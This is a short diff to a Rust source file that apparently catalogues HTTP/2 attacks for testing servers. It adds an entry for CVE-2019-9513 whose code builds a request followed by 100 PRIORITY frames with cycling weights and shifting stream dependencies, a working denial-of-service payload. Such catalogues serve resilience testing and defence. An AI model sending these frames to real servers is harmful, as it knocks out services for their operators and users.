@@ -59,6 +59,22 @@ pub const ALL: &[Attack] = &[
         ..H2
     },
     Attack {
+        name: "PRIORITY between requests, of streams under way",
+        cve: "CVE-2019-9513",
+        step: |n| {
+            let mut bytes = request(n, "/4k");
+            for i in 0..100 {
+                // Chromium's weights, which are obeyed.
+                let weight = [255, 219, 182, 146, 109][i as usize % 5];
+                let id = stream(n.saturating_sub(i % 40));
+                bytes.extend(frame(PRIORITY, 0, id, &[0x80, 0, 0, 0, weight]));
+            }
+            Step::Send(bytes)
+        },
+        memory_kib: 4,
+        ..H2
+    },
+    Attack {
         name: "Streams that depend on themselves",
         cve: "CVE-2019-9513",
         step: |n| {
